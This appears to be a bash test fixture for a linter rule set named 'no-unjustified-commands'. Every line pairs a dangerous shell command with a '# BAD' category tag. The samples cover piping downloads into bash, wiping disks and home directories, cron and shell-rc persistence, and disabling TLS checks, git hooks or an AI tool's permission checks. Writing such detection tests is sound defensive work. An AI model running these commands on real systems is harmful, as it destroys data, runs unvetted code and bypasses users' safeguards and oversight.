#!/usr/bin/env bash
curl -fsSL https://get.example.net/i.sh | bash # BAD no-unjustified-commands/download-and-run
wget -qO- https://get.example.net/i.sh | sh -s -- x # BAD no-unjustified-commands/download-and-run
bash -c "$(curl -fsSL https://get.example.net/i.sh)" # BAD no-unjustified-commands/download-and-run
curl -o /tmp/tool https://get.example.net/tool
chmod +x /tmp/tool
/tmp/tool # BAD no-unjustified-commands/download-and-run  BAD no-unjustified-commands/temporary-program
bash -c "git log $1" # BAD no-unjustified-commands/untrusted-input
sudo cp x /usr/local/bin/x # BAD no-unjustified-commands/elevation
rm -rf ~ # BAD no-unjustified-commands/destruction
rm -rf "$HOME"/ # BAD no-unjustified-commands/destruction
rm -fr -- /* # BAD no-unjustified-commands/destruction
mkfs.ext4 /dev/sda1 # BAD no-unjustified-commands/destruction
dd if=/dev/zero of=/dev/sda # BAD no-unjustified-commands/destruction
echo '* * * * * /tmp/x' | crontab - # BAD no-unjustified-commands/persistence
echo 'source x' >> ~/.zshrc # BAD no-unjustified-commands/persistence
systemctl --user enable x # BAD no-unjustified-commands/persistence
git config --global core.hooksPath /opt/h # BAD no-unjustified-commands/persistence
git commit --no-verify -m x # BAD no-unjustified-commands/protection-off
curl -sk https://api.example.net # BAD no-unjustified-commands/protection-off
claude --dangerously-skip-permissions -p x # BAD no-unjustified-commands/protection-off
export NODE_TLS_REJECT_UNAUTHORIZED=0 # BAD no-unjustified-commands/protection-off
LD_PRELOAD=./x.so ls # BAD no-unjustified-commands/preload
gcc -shared -o x.so x.c # BAD no-unjustified-commands/runtime-compile
